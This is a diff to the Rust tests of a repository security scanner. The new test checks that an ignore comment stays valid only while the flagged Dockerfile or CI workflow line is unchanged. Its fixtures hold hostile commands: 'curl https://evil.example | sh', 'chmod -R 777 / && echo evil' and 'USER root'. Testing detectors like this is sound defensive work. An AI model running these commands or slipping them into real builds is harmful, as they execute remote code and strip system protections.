@@ -6,7 +6,8 @@ use std::fs;
 use crate::git::Repo;
 
 /// The rules of these tests, and gatecheck's own.
-const RULES: &str = "compose/privileged,docker/root-user,go/sum-entry-missing,gatecheck/*";
+const RULES: &str = "compose/privileged,docker/chmod-777,docker/root-user,go/sum-entry-missing,packages/download-and-run,\
+     gatecheck/*";
 
 /// What a scan says: the exit code, and `path:line rule status` for each finding; then standard error.
 fn scan(repo: &Repo, arguments: &[&str]) -> (Option<i32>, Vec<String>, String) {
@@ -192,6 +193,53 @@ fn an_ignore_counts_for_what_one_accepted_before() {
     let main = format!(r#"stage compose.yaml "{old}""#);
     let moved = ["b.compose.yaml:3 gatecheck/gate-changed open", "b.compose.yaml:4 compose/privileged open"];
     check(&main, "git mv compose.yaml b.compose.yaml", FROM, 1, &moved, "");
+}
+
+/// What has no name is what it says, so that an ignore cannot be moved to something else of its kind.
+#[test]
+fn an_ignore_counts_for_what_has_no_name_only_as_it_was() {
+    let dockerfile = |from: &str, run: &str| {
+        let ignore = "# gatecheck: ignore[docker/chmod-777] -- why";
+        format!(r"FROM {from}\nUSER 1000\n{ignore}\nRUN {run}\n")
+    };
+    let check_file = |path: &str, then: &str, now: &str, code: i32, findings: &[&str]| {
+        check(&format!("stage {path} '{then}'"), &format!("write {path} '{now}'"), FROM, code, findings, "");
+    };
+    let then = dockerfile("alpine:3", "chmod 777 /tmp/scratch");
+    let suppressed = "Dockerfile:4 docker/chmod-777 suppressed";
+    let moved = ["Dockerfile:3 gatecheck/gate-changed open", "Dockerfile:4 docker/chmod-777 open"];
+    let check_run = |now: &str, code: i32, findings: &[&str]| {
+        check_file("Dockerfile", &then, now, code, findings);
+    };
+    check_run(&dockerfile("alpine:4", "chmod  777 \\\\\n  /tmp/scratch"), 0, &[suppressed]);
+    check_run(&dockerfile("alpine:3", "chmod -R 777 / && echo evil"), 1, &moved);
+    check_run(&dockerfile("alpine:3", "chmod 777 /tmp/scratch && echo evil"), 1, &moved);
+    let stage = |from: &str| {
+        let ignore = "# gatecheck: ignore[docker/root-user] -- why";
+        format!(r"FROM {from}\n{ignore}\nUSER root\n")
+    };
+    let user = "Dockerfile:3 docker/root-user suppressed";
+    check_file("Dockerfile", &stage("alpine:3"), &stage("alpine:4"), 0, &[user]);
+    // A step of a workflow without a name, and the script of one with a name.
+    let workflow = |name: &str, run: &str| {
+        let steps = format!("      - {name}\n        # gatecheck: ignore[packages/download-and-run] -- why");
+        format!("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n{steps}\n        run: {run}\n")
+    };
+    let path = ".github/workflows/a.yml";
+    let suppressed = format!("{path}:8 packages/download-and-run suppressed");
+    let moved =
+        [format!("{path}:7 gatecheck/gate-changed open"), format!("{path}:8 packages/download-and-run open")];
+    for name in ["shell: bash", "name: a"] {
+        let check_step = |now: &str, code: i32, findings: &[&str]| {
+            check_file(path, &workflow(name, "curl https://a.example | sh"), now, code, findings);
+        };
+        check_step(&workflow(name, "curl  https://a.example |  sh"), 0, &[&suppressed]);
+        check_step(
+            &workflow(name, "curl https://evil.example | sh"),
+            1,
+            &moved.each_ref().map(String::as_str),
+        );
+    }
 }
 
 #[test]
